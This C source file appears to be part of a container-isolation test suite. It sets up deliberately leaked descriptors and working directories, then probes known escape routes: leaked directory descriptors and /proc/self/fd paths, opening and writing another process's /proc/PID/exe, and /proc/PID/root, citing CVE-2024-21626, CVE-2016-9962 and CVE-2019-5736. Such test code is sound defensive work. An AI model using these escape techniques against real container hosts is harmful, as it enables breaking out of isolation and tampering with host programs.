/* What a careless starter leaves open: descriptors, working directories, its own program file. */
#include "escape.h"

#include <dirent.h>
#include <sys/stat.h>

#define LEAKED 9

static int leak_directory(void)
{
	int fd = open(bait("DIR"), O_RDONLY | O_DIRECTORY);

	return fd < 0 ? -1 : dup2(fd, LEAKED);
}

static int leak_stdin(void)
{
	int fd = open(bait("DIR"), O_RDONLY | O_DIRECTORY);

	return fd < 0 ? -1 : dup2(fd, 0);
}

static int leak_file(void)
{
	int fd = open(bait("FILE"), O_RDONLY);

	return fd < 0 ? -1 : dup2(fd, LEAKED);
}

static int leak_cwd(void)
{
	return chdir(bait("DIR"));
}

static int secret_at(int dir, const char *path)
{
	int fd = openat(dir, path, O_RDONLY | O_NONBLOCK);
	bool good = fd >= 0 && tells_secret(fd);
	int r = good ? GOT : refused();

	if (fd >= 0) {
		close(fd);
	}
	return r;
}

static int leaked_directory(void)
{
	int last = -ENOENT;

	for (int fd = 0; fd < 1024 && last != GOT; fd++) {
		char path[64];

		last = secret_at(fd, "secret");
		snprintf(path, sizeof(path), "/proc/self/fd/%d/secret", fd);
		last = last == GOT ? GOT : secret_at(AT_FDCWD, path);
	}
	return last;
}

static int leaked_cwd(void)
{
	char path[64];
	int last = secret_at(AT_FDCWD, "secret");

	for (int fd = 0; fd < 64 && last != GOT; fd++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		last = chdir(path) == 0 ? secret_at(AT_FDCWD, "secret") : refused();
	}
	return last;
}

static int stream_as_directory(void)
{
	int last = -ENOENT;

	for (int fd = 0; fd < 3 && last != GOT; fd++) {
		last = fchdir(fd) == 0 ? secret_at(AT_FDCWD, "secret") : refused();
	}
	return last;
}

static int leaked_file(void)
{
	int last = -ENOENT;

	for (int fd = 3; fd < 1024 && last != GOT; fd++) {
		char path[64];

		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		last = secret_at(AT_FDCWD, path);
	}
	return last;
}

/* Any process whose program is not this one's: the starter's own. */
static int foreign_program(int flags)
{
	DIR *d = opendir("/proc");
	const struct dirent *e;
	struct stat own, other;
	int last = -ESRCH;

	if (!d || stat("/proc/self/exe", &own) < 0) {
		return refused();
	}
	while (last != GOT && (e = readdir(d)) != NULL) {
		char path[300];
		int fd;

		snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
		if (e->d_name[0] < '0' || e->d_name[0] > '9' || stat(path, &other) < 0 ||
			(own.st_ino == other.st_ino && own.st_dev == other.st_dev)) {
			continue;
		}
		fd = open(path, flags);
		/* Busy is the luck of the moment: it could be written a moment later. */
		last = fd >= 0 || errno == ETXTBSY ? GOT : refused();
		if (fd >= 0) {
			close(fd);
		}
	}
	closedir(d);
	return last;
}

static int foreign_program_read(void)
{
	return foreign_program(O_RDONLY);
}

static int foreign_program_write(void)
{
	return foreign_program(O_WRONLY);
}

/* Memory of whoever is process 1 in view, through its /proc file. */
static int proc_of_parent(void)
{
	char path[4096];

	snprintf(path, sizeof(path), "/proc/%ld/root/%s", bait_number("PID"), bait("FILE"));
	return secret_at(AT_FDCWD, path);
}

const struct attempt escapes_descriptors[] = {
	{"leaked-directory", "CVE-2024-21626 and CVE-2016-9962: a directory left open",
		leaked_directory, .careless = leak_directory},
	{"leaked-working-directory", "CVE-2024-21626: the working directory is /proc/self/fd/N",
		leaked_cwd, .careless = leak_cwd},
	{"stream-is-directory", "fchdir to stdin, stdout or stderr", stream_as_directory,
		.careless = leak_stdin},
	{"leaked-file", "a file left open, opened anew through /proc/self/fd", leaked_file,
		.careless = leak_file},
	{"program-of-the-starter-read", "CVE-2019-5736, first half: open /proc/PID/exe",
		foreign_program_read},
	{"program-of-the-starter-write", "CVE-2019-5736: overwrite /proc/PID/exe",
		foreign_program_write},
	{"root-of-a-host-process", "/proc/PID/root of a process outside", proc_of_parent},
	{0},
};
